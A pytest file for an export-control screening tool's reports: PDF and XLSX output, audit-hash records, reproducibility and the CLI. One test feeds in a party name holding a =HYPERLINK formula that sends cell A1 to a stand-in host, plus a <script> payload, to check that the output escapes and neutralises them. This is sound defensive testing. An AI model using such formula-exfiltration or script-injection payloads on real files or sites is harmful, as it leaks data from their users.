"""Reports for the licence file: the committed example, issuing a report, its content, XLSX and HTML safety, the CLI."""

from __future__ import annotations

import datetime as dt
import hashlib
import io
import json
import re
import time
from pathlib import Path

import pytest
from openpyxl import load_workbook
from recordkit import POSSIBLE_NAME, shipment

from dualuse.output.cells import safe_cell, safe_text
from dualuse.reports import REPORT_KIND, ReportError, render_period_report, render_shipment_report
from dualuse.reports import pdf as report_pdf
from dualuse.reports.html import shipment_html
from dualuse.reports.gather import period_snapshot, shipment_snapshot
from dualuse.service import alerts, audit
from dualuse.service.screening import screen_and_record
from dualuse.storage.db import Database

pypdf = pytest.importorskip("pypdf")

ROOT = Path(__file__).resolve().parents[2]
EXAMPLE = ROOT / "examples" / "reports"
LISTED = "Kawasaki Heavy Industries Aerospace Systems Company"  # on the control list since 2026-02-24 (MOFCOM 2026 No. 11)
needs_font = pytest.mark.skipif(not report_pdf.cjk_families(), reason="no CJK font installed (Debian: apt-get install fonts-noto-cjk; .ci/run installs it)")


def _text(content: bytes) -> str:
    return "\n".join(page.extract_text() for page in pypdf.PdfReader(io.BytesIO(content)).pages)


def _embedded_fonts(content: bytes) -> list[tuple[str, bool]]:
    """(font name, has an embedded font file) for every descendant font of every page."""
    out = []
    for page in pypdf.PdfReader(io.BytesIO(content)).pages:
        for font in page["/Resources"]["/Font"].values():
            font = font.get_object()
            for child in font.get("/DescendantFonts", []):
                descriptor = child.get_object()["/FontDescriptor"].get_object()
                out.append((str(font["/BaseFont"]), any(k.startswith("/FontFile") for k in descriptor)))
    return out


@pytest.fixture()
def sqlite_db(tmp_path) -> Database:
    return Database(str(tmp_path / "records.db"))


# --- the committed example ---------------------------------------------------------------


def test_example_pdf_text_is_extractable_with_chinese_and_the_cjk_font_embedded():
    content = (EXAMPLE / "EX-01-report-zh.pdf").read_bytes()
    text = _text(content)
    assert "EX-01" in text and "KAWASAKI HVY IND LTD AEROSPACE" in text
    assert "禁止" in text and "PROHIBITED" in text  # the verdict in Chinese and English
    assert "商务部公告2026年第11号" in text  # the citation in its Chinese form
    assert "MOFCOM Announcement 2026 No. 11" in text  # and in English beside it
    assert "CN-ECL-CONTROL-LIST" in text and "1C902.a.4" in text
    fonts = _embedded_fonts(content)
    assert any("CJK" in name and embedded for name, embedded in fonts), fonts
    assert all(embedded for _name, embedded in fonts)


def test_example_pdf_hash_is_in_the_audit_export_and_the_export_verifies():
    content = (EXAMPLE / "EX-01-report-zh.pdf").read_bytes()
    digest = hashlib.sha256(content).hexdigest()
    records = [json.loads(line) for line in (EXAMPLE / "EX-01-audit.jsonl").read_text(encoding="utf-8").splitlines() if line.strip()]
    issued = [r for r in records if r["kind"] == REPORT_KIND and r["payload"]["sha256"] == digest]
    assert len(issued) == 1, "the committed PDF's sha256 is in no report_issued record"
    payload = issued[0]["payload"]
    screening = next(r for r in records if r["seq"] == payload["screening_seq"])
    assert screening["kind"] == "screening" and screening["subject"] == "EX-01" and screening["verdict"] == "PROHIBITED"
    assert screening["hash"] == payload["screening_hash"]
    # the report prints the screening record's hash and the anchor an auditor passes to audit verify
    text = re.sub(r"\s+", "", _text(content))
    assert screening["hash"] in text
    assert f"--expect-head{payload['anchor_seq']}:{payload['anchor_hash']}" in text
    assert audit.verify_export(EXAMPLE / "EX-01-audit.jsonl").ok


def test_example_snapshot_comes_from_the_records_and_renders_the_same_bytes():
    snapshot = json.loads((EXAMPLE / "EX-01-snapshot.json").read_text(encoding="utf-8"))
    records = {r["seq"]: r for r in map(json.loads, (EXAMPLE / "EX-01-audit.jsonl").read_text(encoding="utf-8").splitlines())}
    screening = records[snapshot["screening"]["seq"]]
    assert screening["hash"] == snapshot["screening"]["hash"]
    assert screening["payload"]["decision"] == snapshot["decision"] and screening["payload"]["input"] == snapshot["shipment"]
    committed = (EXAMPLE / "EX-01-report-zh.pdf").read_bytes()
    producer = pypdf.PdfReader(io.BytesIO(committed)).metadata.get("/Producer", "")
    weasyprint = pytest.importorskip("weasyprint")
    if producer != f"WeasyPrint {weasyprint.__version__}" or not report_pdf.cjk_families():
        pytest.skip(f"the example was made with {producer}; this machine has WeasyPrint {weasyprint.__version__}")
    assert report_pdf.html_to_pdf(shipment_html(snapshot, "zh")) == committed


# --- issuing reports -----------------------------------------------------------------------


@needs_font
def test_issuing_a_pdf_records_its_hash_and_the_chain_still_verifies(sqlite_db):
    result = screen_and_record(sqlite_db, [shipment("P-1", LISTED)], actor="alice", channel="cli")[0]
    assert result.decision.verdict == "PROHIBITED"
    report = render_shipment_report(sqlite_db, "P-1", "pdf", "ja", actor="auditor")
    assert report.media_type == "application/pdf" and report.filename == "P-1-report-ja.pdf"
    assert report.sha256 == hashlib.sha256(report.content).hexdigest()
    issued = [r for r in audit.iter_records(sqlite_db, kinds=[REPORT_KIND])]
    assert [r["payload"]["sha256"] for r in issued] == [report.sha256]
    assert issued[0]["seq"] == report.record_seq and issued[0]["actor"] == "auditor" and issued[0]["subject"] == "P-1"
    screening = next(audit.iter_records(sqlite_db, kinds=["screening"]))
    assert issued[0]["payload"]["screening_hash"] == screening["hash"]
    assert audit.verify(sqlite_db).ok
    text = _text(report.content)
    assert "商務部公告2026年第11号" in text  # the Japanese form of the citation
    assert "輸出管理法第18条" in text
    # issuing again gives the same bytes (the anchor is the last record about the shipment, not the chain head)
    again = render_shipment_report(sqlite_db, "P-1", "pdf", "ja", actor="auditor")
    assert again.content == report.content and again.record_seq == report.record_seq + 1


def test_report_of_an_unknown_shipment_or_a_bad_format_is_refused(sqlite_db):
    with pytest.raises(ReportError, match="no screened shipment 'NOPE'") as error:
        render_shipment_report(sqlite_db, "NOPE", "xlsx", "en")
    assert error.value.status == 404
    with pytest.raises(ReportError, match="expected pdf or xlsx"):
        render_shipment_report(sqlite_db, "NOPE", "docx", "en")
    with pytest.raises(ReportError, match="is after"):
        render_period_report(sqlite_db, dt.date(2026, 3, 2), dt.date(2026, 3, 1), "xlsx", "en")


def test_pdf_without_a_cjk_font_is_refused_with_the_way_to_install_one(sqlite_db, monkeypatch):
    screen_and_record(sqlite_db, [shipment("F-1", LISTED)], actor="alice", channel="cli")
    monkeypatch.setattr(report_pdf, "cjk_families", lambda: frozenset())
    with pytest.raises(ReportError, match="fonts-noto-cjk") as error:
        render_shipment_report(sqlite_db, "F-1", "pdf", "zh")
    assert error.value.status == 503
    assert not list(audit.iter_records(sqlite_db, kinds=[REPORT_KIND]))  # nothing issued


def test_xlsx_report_holds_the_review_history_and_is_reproducible(sqlite_db):
    first = screen_and_record(sqlite_db, [shipment("R-1", POSSIBLE_NAME)], actor="alice", channel="cli")[0]
    alert_id = first.alerts_opened[0]
    alerts.decide_alert(sqlite_db, alert_id, "false_positive", "a distributor unrelated to Sun Tectro (registry extract)", "carol",
                        attachment=("registry.pdf", b"%PDF-1.4 extract", "application/pdf"))
    snapshot = shipment_snapshot(sqlite_db, "R-1")
    assert snapshot["status"] == "final" and snapshot["alerts"][0]["status"] == "false_positive"
    history = snapshot["alerts"][0]["history"]
    assert [(h["kind"], h["status"], h["by"]) for h in history] == [("alert_decision", "false_positive", "carol")]
    # the final screening follows the decision, and the anchor is the last record about the shipment
    assert snapshot["screening"]["seq"] > history[0]["seq"]
    assert snapshot["anchor"]["seq"] == max(snapshot["screening"]["seq"], history[-1]["seq"])
    report = render_shipment_report(sqlite_db, "R-1", "xlsx", "zh", actor="carol")
    book = load_workbook(io.BytesIO(report.content))
    review = book.worksheets[4]
    rows = [[c.value for c in row] for row in review.iter_rows(min_row=2)]
    assert rows[0][0] == alert_id and "false positive" in rows[0][1] and rows[0][8].startswith("a distributor unrelated")
    assert hashlib.sha256(b"%PDF-1.4 extract").hexdigest() in rows[0][9]
    summary = {row[0].value: row[1].value for row in book.worksheets[0].iter_rows(min_row=2)}
    assert any(v == snapshot["screening"]["hash"] for v in summary.values())
    time.sleep(1.1)  # openpyxl stamps the save time, to the second: the bytes must not follow the clock
    assert render_shipment_report(sqlite_db, "R-1", "xlsx", "zh", record=False).content == report.content


def test_party_names_cannot_inject_formulas_or_markup(sqlite_db):
    evil = '=HYPERLINK("http://x.example/?"&A1,"ok")<script>alert(1)</script> Trading'
    screen_and_record(sqlite_db, [shipment("X-1", evil)], actor="alice", channel="cli")
    snapshot = shipment_snapshot(sqlite_db, "X-1")
    html = shipment_html(snapshot, "en")
    assert "<script>" not in html and "&lt;script&gt;alert(1)&lt;/script&gt;" in html
    book = load_workbook(io.BytesIO(render_shipment_report(sqlite_db, "X-1", "xlsx", "en", record=False).content))
    texts = [c.value for ws in book.worksheets for row in ws.iter_rows() for c in row if isinstance(c.value, str)]
    assert any(evil in t for t in texts)
    assert not [t for t in texts if t.startswith(("=", "+", "-", "@", "\t", "\r"))]


def test_safe_cell_neutralises_every_formula_start_and_keeps_typed_values():
    for start in ("=", "+", "-", "@", "\t", "\r"):
        assert safe_text(start + "1+1") == "'" + start + "1+1"
    assert safe_text("Kawasaki") == "Kawasaki" and safe_text("") == ""
    assert safe_cell(-3.5) == -3.5 and safe_cell(None) is None and safe_cell(dt.date(2026, 3, 2)) == dt.date(2026, 3, 2)
    assert safe_cell(["=x"]) == "['=x']"


@needs_font
def test_period_report_counts_verdicts_and_lists_every_flagged_shipment(sqlite_db):
    screen_and_record(
        sqlite_db, [shipment("A-1", LISTED), shipment("A-2", POSSIBLE_NAME), shipment("A-3", "Hokuriku Precision Optics Co., Ltd.")],
        actor="alice", channel="cli",
    )
    today = dt.datetime.now(dt.timezone.utc).date()
    book = load_workbook(io.BytesIO(render_period_report(sqlite_db, today, today, "xlsx", "en").content))
    summary = {row[0].value: row[1].value for row in book.worksheets[0].iter_rows(min_row=2)}
    assert [v for k, v in summary.items() if k.startswith("Shipments screened")] == [3]
    assert [len(ws._charts) for ws in book.worksheets[:2]] == [1, 1]  # verdict bars, shipments per day stacked by verdict
    flagged = [[c.value for c in row] for row in book.worksheets[-1].iter_rows(min_row=2)]
    assert [(r[0], r[2]) for r in flagged] == [("A-1", "PROHIBITED"), ("A-2", "REVIEW")]
    report = render_period_report(sqlite_db, today, today, "pdf", "zh")
    text = _text(report.content)
    assert "A-1" in text and "A-2" in text and "A-3" not in text
    assert "<svg" not in text and report.filename == f"period-{today}-{today}-zh.pdf"
    assert audit.verify(sqlite_db).ok
    # the reviewed shipment counts once, with its final screening, and is listed with its outcome
    alert_id = alerts.list_alerts(sqlite_db, shipment_id="A-2")[1][0]["id"]
    final = alerts.decide_alert(sqlite_db, alert_id, "confirmed", "same company as the watch-list entry (registry)", "bob").final
    snapshot = period_snapshot(sqlite_db, today, today)
    assert snapshot["screenings"] == 4 and snapshot["shipments"] == 3 and sum(snapshot["verdicts"].values()) == 3
    a2 = next(f for f in snapshot["flagged"] if f["shipment_id"] == "A-2")
    assert a2["verdict"] == final.decision.verdict and a2["status"] == "final" and a2["closed"] == {"confirmed": 1}
    assert a2["seq"] == final.record_seq
    assert snapshot["alerts"]["confirmed"] == 1 and snapshot["alerts"]["open"] == 0
    # a period before any screening has nothing in it
    empty = load_workbook(io.BytesIO(render_period_report(sqlite_db, dt.date(2020, 1, 1), dt.date(2020, 1, 2), "xlsx", "en", record=False).content))
    assert not list(empty.worksheets[-1].iter_rows(min_row=2))


def test_cli_report_writes_the_file_and_names_bad_input(tmp_path):
    from typer.testing import CliRunner

    from dualuse.cli.app import app

    database = str(tmp_path / "cli.db")
    screen_and_record(Database(database), [shipment("C-1", LISTED)], actor="alice", channel="cli")
    runner = CliRunner()
    out = tmp_path / "c1.xlsx"
    result = runner.invoke(app, ["report", "C-1", "-o", str(out), "--db", database, "--lang", "en"])
    assert result.exit_code == 0, result.output
    assert out.is_file() and hashlib.sha256(out.read_bytes()).hexdigest() in result.output
    result = runner.invoke(app, ["report", "NOPE", "--format", "xlsx", "--db", database])
    assert result.exit_code == 2 and "NOPE" in result.output
    result = runner.invoke(app, ["report", "period", "--from", "2026-03-01", "--db", database])
    assert result.exit_code == 2 and "--to" in result.output
    result = runner.invoke(app, ["report", "C-1", "-o", str(tmp_path / "x.pdf"), "--format", "xlsx", "--db", database])
    assert result.exit_code == 2
